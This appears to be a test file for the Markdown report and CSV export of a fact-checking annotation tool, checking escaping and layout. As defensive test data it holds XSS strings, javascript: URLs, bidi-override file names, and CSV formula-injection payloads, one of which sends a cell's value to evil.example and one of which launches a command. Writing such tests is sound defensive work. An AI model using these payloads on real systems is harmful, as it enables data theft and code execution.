// Tests of the Markdown fact-check report and the CSV of claims.

import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { importBrat } from '../../../src/core/brat';
import { type Annotations, anchorAt, emptyAnnotations } from '../../../src/core/model';
import { CSV_COLUMNS, exportClaimsCsv, exportMarkdownReport } from '../../../src/core/report';
import { DEFAULT_VERDICT_SCALE } from '../../../src/core/verdicts';

// The Markdown renderer VS Code's preview uses, with raw HTML on: what a reader of the report would get.
// eslint-disable-next-line @typescript-eslint/no-require-imports
const MarkdownIt = require('markdown-it') as new (options: { html: boolean }) => { render(md: string): string };
const render = (md: string) => new MarkdownIt({ html: true }).render(md);

const FIXTURES = join(__dirname, '../../../../test/fixtures/brat');

/** Reads RFC 4180 CSV the way a spreadsheet does, to check what a user would see in the cells. */
function parseCsv(csv: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < csv.length; i++) {
    const c = csv[i];
    if (quoted) {
      if (c === '"' && csv[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') {
        quoted = false;
      } else {
        field += c;
      }
    } else if (c === '"') {
      quoted = true;
    } else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && csv[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else {
      field += c;
    }
  }
  assert.equal(field + row.join(''), '', 'the CSV ends with a line break');
  return rows;
}

describe('report', () => {
  // Imported in before(), not while mocha loads the file, so a run that skips this suite does not pay for it.
  let text: string;
  let imported: Annotations;
  before(() => {
    text = readFileSync(join(FIXTURES, 'summit.txt'), 'utf8');
    imported = importBrat(text, readFileSync(join(FIXTURES, 'summit.ann'), 'utf8'), { articleFile: 'summit.txt' }).annotations!;
  });
  function annotated(): Annotations {
    const a: Annotations = structuredClone(imported);
    a.article.title = 'Yerevan summit ends without a peace deal';
    a.article.url = 'https://news.example.com/2024/05/yerevan-summit';
    a.claims[0].sources.push(
      { url: 'https://www.consilium.europa.eu/en/press/', title: 'Council press release (14 May)', archived: 'https://web.archive.org/web/2024/https://www.consilium.europa.eu/en/press/', accessed: '2024-05-15' },
      { url: 'https://en.wikipedia.org/wiki/Armenia_(disambiguation)' },
    );
    a.claims[0].claimant = a.actors.find((x) => x.name === 'European Union')!.id;
    return a;
  }

  describe('Markdown', () => {
    it('summarises the article and lists each claim with claimant, status, verdict, sources and notes', () => {
      const md = exportMarkdownReport(annotated(), text);
      const lines = md.split('\n');
      assert.equal(lines[0], '# Fact-check report: Yerevan summit ends without a peace deal');
      assert.ok(lines.includes('Article: [Yerevan summit ends without a peace deal](https://news.example.com/2024/05/yerevan-summit) (`summit.txt`)'));
      assert.ok(lines.includes('3 claims: 1 unchecked, 1 in progress, 1 checked.'));
      assert.ok(lines.includes('| Mostly false | 1 |'));
      const first = md.slice(md.indexOf('### 1.'), md.indexOf('### 2.'));
      assert.equal(
        first,
        [
          '### 1. “We have agreed on 15 of the 17 articles”',
          '',
          '- **Claimant:** European Union ([Q458](https://www.wikidata.org/wiki/Q458))',
          '- **Status:** Checked',
          '- **Verdict:** Mostly false',
          '- **Sources:**',
          '  - [Council press release (14 May)](https://www.consilium.europa.eu/en/press/) ([archived](https://web.archive.org/web/2024/https://www.consilium.europa.eu/en/press/), accessed 2024-05-15)',
          '  - [https://en.wikipedia.org/wiki/Armenia\\_(disambiguation)](https://en.wikipedia.org/wiki/Armenia_%28disambiguation%29)',
          '- **Notes:** The official minutes list 12 agreed articles, not 15.',
          '',
          '',
        ].join('\n'),
      );
      assert.match(md, /### 2\. “The agreement, … will be signed before the end of the year\.”/);
      assert.match(md, /\| \[European Union\]\(https:\/\/www\.wikidata\.org\/wiki\/Q458\) \| 1 \| Mostly false \|/);
      assert.match(md, /\| Pashinyan \| 2 \| — \|/);
    });

    it('shows article text as text, not as Markdown', () => {
      const t = 'The mayor said: *all* 3 | 4 bridges <b>are</b> safe #1.';
      const a = emptyAnnotations('bridges.txt');
      a.claims.push({ id: 'c1', anchor: anchorAt(t, 16, t.length - 1), status: 'unchecked', sources: [] });
      const md = exportMarkdownReport(a, t);
      assert.match(md, /### 1\. “\\\*all\\\* 3 \\\| 4 bridges \\<b\\>are\\<\/b\\> safe \\#1”/);
      assert.match(md, /\| \*the article itself\* \| 1 \| — \|/);
    });

    it('flags claims whose text moved away or changed', () => {
      const a = annotated();
      a.claims[0].anchor.orphaned = true;
      const md = exportMarkdownReport(a, text);
      assert.match(md, /- \*\*Attention:\*\* the claim’s text was not found in the current article\./);
      // Orphaned claims come last.
      assert.match(md, /### 3\. “We have agreed/);
    });

    it('lets no sidecar value out of its place: no raw HTML, no new block, one table cell', () => {
      const hostile = 'x`\n\n<img src=x onerror=alert(1)>\r<script>alert(2)</script>\u2028| a | b |\u202Eexe.txt';
      const t = 'The mayor said the bridges are safe.';
      const a = emptyAnnotations(`bridges${hostile}.txt`);
      a.article.url = 'javascript:alert(3)';
      a.article.publisher = `Daily ${hostile}`;
      a.article.published = `2024-01-01${hostile}`;
      a.actors.push({ id: 'mayor', name: `Mayor ${hostile}`, type: 'person', wikidata: 'Q1"><img src=x>' as string, mentions: [anchorAt(t, 4, 9)] });
      a.claims.push({
        id: 'c1',
        anchor: anchorAt(t, 15, t.length - 1),
        claimant: 'mayor',
        status: 'checked',
        verdict: `false${hostile}`,
        sources: [{ url: 'https://example.org/(x)<img src=x>', title: hostile, archived: 'javascript:alert(4)', accessed: `2024-01-01${hostile}` }],
        notes: `First.\r\r    indented code?\n===\n- [x](javascript:alert(5))\n${hostile}`,
      });
      const md = exportMarkdownReport(a, t);
      const html = render(md);
      assert.doesNotMatch(html, /<img|<script|href="(?!https?:)/i, html);
      // Only the report's own blocks: no code block, and the one code span is the file name.
      assert.doesNotMatch(html, /<pre|<blockquote/, html);
      assert.equal((html.match(/<code>/g) ?? []).length, 1, html);
      assert.deepEqual(html.match(/<h\d/g), ['<h1', '<h2', '<h3', '<h2'], html);
      assert.doesNotMatch(md, /[\r\u2028\u202E]/);
      assert.match(html, /⟨U\+202E⟩exe\.txt/);
      // Every table row keeps its three cells; the verdict table its two.
      for (const row of md.split('\n').filter((l) => l.startsWith('| '))) {
        const cells = row.replace(/\\\|/g, '').split('|').length - 2;
        assert.ok(cells === 2 || cells === 3, row);
      }
      assert.equal((html.match(/<tr>/g) ?? []).length, 2 + 2, html);
      // The notes stay in their list item: one line each, no heading, list or code made of them.
      assert.equal((html.match(/<li>/g) ?? []).length, 6, html);
      assert.match(html, /<strong>Notes:<\/strong> First\.<br>\s*indented code\?<br>\s*===<br>/, html);
    });

    it('starts with the article’s headline, link, publisher and date published', () => {
      const a = annotated();
      a.article.publisher = 'Caucasus *Daily*';
      a.article.published = '2024-05-01';
      const top = exportMarkdownReport(a, text).split('\n').slice(0, 6);
      assert.deepEqual(top, [
        '# Fact-check report: Yerevan summit ends without a peace deal',
        '',
        'Article: [Yerevan summit ends without a peace deal](https://news.example.com/2024/05/yerevan-summit) (`summit.txt`)',
        '',
        'Published by Caucasus \\*Daily\\* on 2024-05-01.',
        '',
      ]);
      delete a.article.publisher;
      assert.ok(exportMarkdownReport(a, text).split('\n').includes('Published on 2024-05-01.'));
      a.article.published = '1 May';
      assert.doesNotMatch(exportMarkdownReport(a, text), /^Published/m);
    });

    it('says so when an article has no claims yet', () => {
      assert.equal(exportMarkdownReport(emptyAnnotations('blank.txt'), ''), '# Fact-check report: blank.txt\n\nArticle: `blank.txt`\n\nNo claims are marked in this article yet.\n');
    });
  });

  describe('CSV', () => {
    it('has one row per claim under a fixed header, with code-point offsets', () => {
      const rows = parseCsv(exportClaimsCsv([{ annotations: annotated(), text }]));
      assert.deepEqual(rows[0], [...CSV_COLUMNS]);
      assert.deepEqual(rows[1], [
        'summit.txt',
        'c1',
        'We have agreed on 15 of the 17 articles',
        'European Union',
        'Q458',
        'checked',
        'mostly-false',
        'Mostly false',
        '2',
        'https://www.consilium.europa.eu/en/press/ https://en.wikipedia.org/wiki/Armenia_(disambiguation)',
        'The official minutes list 12 agreed articles, not 15.',
        '250',
        '289',
        'attached',
      ]);
      // Past "🇦🇲" and "👍": the same offsets as the brat file, not UTF-16 ones.
      assert.deepEqual(rows[3].slice(11), ['983', '1029', 'attached']);
    });

    it('quotes commas, quotes and line breaks so every cell reads back as written', () => {
      const t = 'She said: "Rents rose 40%, in real terms,\nsince 2019."';
      const a = emptyAnnotations('rents, 2024.txt');
      a.claims.push({ id: 'c1', anchor: anchorAt(t, 11, t.length - 1), status: 'checked', verdict: 'false', sources: [], notes: 'Office for "National" Statistics:\r\nrents rose 21%.' });
      const csv = exportClaimsCsv([{ annotations: a, text: t }]);
      assert.ok(csv.endsWith('\r\n'));
      const rows = parseCsv(csv);
      assert.equal(rows.length, 2);
      assert.equal(rows[1][0], 'rents, 2024.txt');
      assert.equal(rows[1][2], 'Rents rose 40%, in real terms, since 2019.');
      assert.equal(rows[1][10], 'Office for "National" Statistics:\r\nrents rose 21%.');
    });

    it('neutralises cells a spreadsheet would run as formulas, article text included', () => {
      const formulas = ['=HYPERLINK("https://evil.example/?leak="&A1,"Click")', "-2+3+cmd|' /C calc'!A0", '@import', '\t=1', '\r=1', '+1', '\n=1'];
      const t = formulas.join(' and ');
      const a = emptyAnnotations('=1+1.txt');
      a.actors.push({ id: 'p', name: '@SUM(1+1)', type: 'person', wikidata: 'Q1', mentions: [anchorAt(t, 0, 1)] });
      let at = 0;
      formulas.forEach((f, i) => {
        a.claims.push({ id: `c${i + 1}`, anchor: anchorAt(t, at, at + f.length), claimant: 'p', status: 'checked', verdict: '-minus', sources: [], notes: f });
        at += f.length + ' and '.length;
      });
      const rows = parseCsv(exportClaimsCsv([{ annotations: a, text: t }]));
      assert.equal(rows.length, 1 + formulas.length);
      rows.slice(1).forEach((row, i) => {
        assert.equal(row[0], "'=1+1.txt");
        // The claim as quoted from the article, its leading white space trimmed as the report does.
        assert.equal(row[2], `'${formulas[i].trim()}`);
        assert.equal(row[3], "'@SUM(1+1)");
        assert.equal(row[6], "'-minus");
        assert.equal(row[7], "'-minus");
        assert.equal(row[10], `'${formulas[i]}`, 'the notes');
      });
    });

    it('keeps numbers Newsmark writes, a negative rating included, as numbers', () => {
      const scale = { ...DEFAULT_VERDICT_SCALE, verdicts: [{ id: 'pants-on-fire', label: 'Pants on fire', ratingValue: -1 }], worstRating: -1 };
      const t = 'Crime fell by -40% last year.';
      const a = emptyAnnotations('crime.txt');
      a.claims.push({ id: 'c1', anchor: anchorAt(t, 0, t.length - 1), status: 'checked', verdict: 'pants-on-fire', sources: [] });
      const rows = parseCsv(exportClaimsCsv([{ annotations: a, text: t }], { verdicts: scale }));
      assert.deepEqual(rows[1].slice(8, 9), ['-1']);
      assert.deepEqual(rows[1].slice(11), ['0', '28', 'attached']);
    });

    it('shows bidirectional controls in cells instead of applying them', () => {
      const t = 'Invoice\u202Etxt.exe is attached.';
      const a = emptyAnnotations('invoice.txt');
      a.claims.push({ id: 'c1', anchor: anchorAt(t, 0, 15), status: 'unchecked', sources: [], notes: 'see \u2066x\u2069' });
      const rows = parseCsv(exportClaimsCsv([{ annotations: a, text: t }]));
      assert.equal(rows[1][2], 'Invoice⟨U+202E⟩txt.exe');
      assert.equal(rows[1][10], 'see ⟨U+2066⟩x⟨U+2069⟩');
    });

    it('gathers several articles under one header', () => {
      const rows = parseCsv(exportClaimsCsv([{ annotations: annotated(), text }, { annotations: emptyAnnotations('blank.txt'), text: '' }, { annotations: annotated(), text }]));
      assert.equal(rows.length, 1 + 3 + 3);
      assert.equal(rows.filter((r) => r[0] === 'article').length, 1);
    });
  });
});
